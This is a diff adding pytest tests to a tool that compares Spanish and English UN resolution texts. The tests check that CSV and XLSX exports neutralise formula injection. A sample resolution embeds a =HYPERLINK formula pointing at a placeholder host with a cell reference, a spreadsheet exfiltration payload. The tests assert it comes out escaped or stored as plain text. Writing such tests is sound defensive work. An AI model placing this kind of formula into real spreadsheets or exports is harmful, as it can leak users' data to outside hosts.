@@ -211,3 +211,39 @@ def test_cli_diff_language_side_by_side(capsys: pytest.CaptureFixture[str]) -> N
     assert " │ Reiterating its strong condemnation" in out
     assert main(["diff", str(ES), str(EN), "--color", "never"]) == 0
     assert capsys.readouterr().out.rstrip().endswith("no findings")
+
+
+INJECTION = """72/12. Prueba
+
+La Asamblea General,
+
+=HYPERLINK("http://example.invalid/?"&A1,"pulse aquí"),
+
+1. *Decide* actuar.
+"""
+
+
+def injected_comparison():  # type: ignore[no-untyped-def]
+    from align import parse_text
+
+    left = parse_text(INJECTION, source="l.txt")
+    right = parse_text(INJECTION.replace("actuar", "actuar ya"), source="r.txt")
+    return compare(left, right, align(left, right))
+
+
+def test_csv_cells_never_run_as_formulas() -> None:
+    text = render(injected_comparison(), "csv").decode("utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(text)))
+    (pp1,) = [row for row in rows if row["left_key"] == "PP1"]
+    assert pp1["left_text"] == "'=HYPERLINK(\"http://example.invalid/?\"&A1,\"pulse aquí\"),"
+    assert not any(value.startswith("=") for row in rows for value in row.values())
+
+
+def test_xlsx_cells_never_run_as_formulas() -> None:
+    from openpyxl import load_workbook
+
+    book = load_workbook(io.BytesIO(render(injected_comparison(), "xlsx")))
+    cells = [cell for row in book["Pairs"].iter_rows() for cell in row]
+    hyperlink = [cell for cell in cells if str(cell.value).startswith("=HYPERLINK")]
+    assert len(hyperlink) == 2  # left and right text of PP1, kept as written
+    assert {cell.data_type for cell in hyperlink} == {"s"}
